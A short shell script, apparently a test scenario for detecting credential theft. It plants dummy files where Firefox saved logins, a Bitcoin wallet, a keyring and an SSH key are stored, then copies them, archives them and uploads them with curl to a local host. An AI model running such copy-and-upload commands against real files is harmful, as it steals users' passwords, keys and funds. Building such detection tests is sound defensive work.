# A browser's store, a wallet, a keyring and a key are copied, packed and sent.
prepare() {
    mkdir -p /home/ana/.mozilla/firefox/a.default /home/ana/.bitcoin /home/ana/.local/share/keyrings /home/ana/.ssh
    echo x >/home/ana/.mozilla/firefox/a.default/logins.json
    echo x >/home/ana/.bitcoin/wallet.dat
    echo x >/home/ana/.local/share/keyrings/login.keyring
    echo key >/home/ana/.ssh/id_ed25519
}
act() {
    cp /home/ana/.mozilla/firefox/a.default/logins.json /home/ana/.bitcoin/wallet.dat /home/ana/.local/share/keyrings/login.keyring /home/ana/.ssh/id_ed25519 /tmp
    tar czf /tmp/part.tgz -C /tmp logins.json wallet.dat
    curl -s -T /tmp/part.tgz http://127.0.0.1/up
}
